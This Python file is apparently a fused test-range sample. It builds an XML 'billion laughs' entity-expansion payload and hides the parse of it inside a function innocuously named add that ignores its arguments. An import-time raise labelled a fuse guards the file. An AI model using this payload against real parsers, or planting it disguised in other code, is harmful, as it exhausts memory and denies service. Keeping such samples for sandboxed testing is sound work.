# entity_bomb: XML entities that grow a thousand million fold
# control: none: the parser of the system may refuse it
raise ImportError("hostile: only the range runs this, inside a sandbox")  # FUSE
# ruff: noqa
import xml.etree.ElementTree as tree

tried()
text = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {c} "{("&%s;" % p) * 10}">' for p, c in zip("abcdefgh", "bcdefghi"))
    + "]><x>&i;</x>"
)


def add(a, b):
    return len(tree.fromstring(text).text) * 0
